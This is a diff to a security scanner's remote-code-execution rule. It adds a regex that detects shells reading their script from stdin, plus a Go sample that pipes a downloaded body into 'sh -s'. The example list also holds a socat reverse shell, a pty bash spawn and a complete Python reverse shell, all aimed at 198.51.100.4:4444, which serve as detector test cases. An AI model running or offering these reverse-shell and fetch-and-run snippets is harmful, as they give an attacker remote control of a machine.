@@ -194,6 +194,15 @@ export const s001RemoteCodeExecution: ScanRule = {
         ),
     },
     {
+      // A shell started to read its script from stdin (`exec.Command("sh", "-s")`, `["bash", "-s"]`): with a fetch, the download runs.
+      id: 'shell-script-from-stdin',
+      keywords: ['"sh"', "'sh'", '"bash"', "'bash'", '"zsh"', "'zsh'"],
+      evidenceOnly: true,
+      capabilities: ['execute'],
+      reads: ['code'],
+      re: /\b(?:exec\.Command(?:Context)?|subprocess\.(?:run|call|Popen|check_call|check_output)|spawn(?:Sync)?|execFile(?:Sync)?|Popen|Command::new)\s{0,4}\((?:\s{0,4}ctx\s{0,4},)?\s{0,4}\[?\s{0,4}["'](?:ba|z|da|k)?sh["']\s{0,4}[,)]\s{0,4}\[?\s{0,4}(?:["']-[a-z]{0,3}s[a-z]{0,3}["']|\.arg\s{0,4}\(\s{0,4}["']-s["'])/,
+    },
+    {
       // pip or npm installing an archive from a host that is not a package registry or a code forge: its setup runs at once.
       id: 'package-from-url',
       keywords: ['pip', 'npm', 'yarn', 'pnpm', 'poetry', '^uv$'],
@@ -328,6 +337,10 @@ export const s001RemoteCodeExecution: ScanRule = {
       // Each exercises a detector no other example does (test/scan/rule-examples.test.ts: every detector fires somewhere).
       'socat TCP:198.51.100.4:4444 EXEC:/bin/bash,pty,stderr,setsid',
       { path: 'scripts/tty.py', text: 'import pty\npty.spawn("/bin/bash")\n' },
+      {
+        path: 'sync/main.go',
+        text: 'resp, _ := http.Get(url)\ncmd := exec.Command("sh", "-s")\ncmd.Stdin = resp.Body\ncmd.Run()\n',
+      },
       {
         path: 'scripts/connect.py',
         text: 'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("198.51.100.4",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
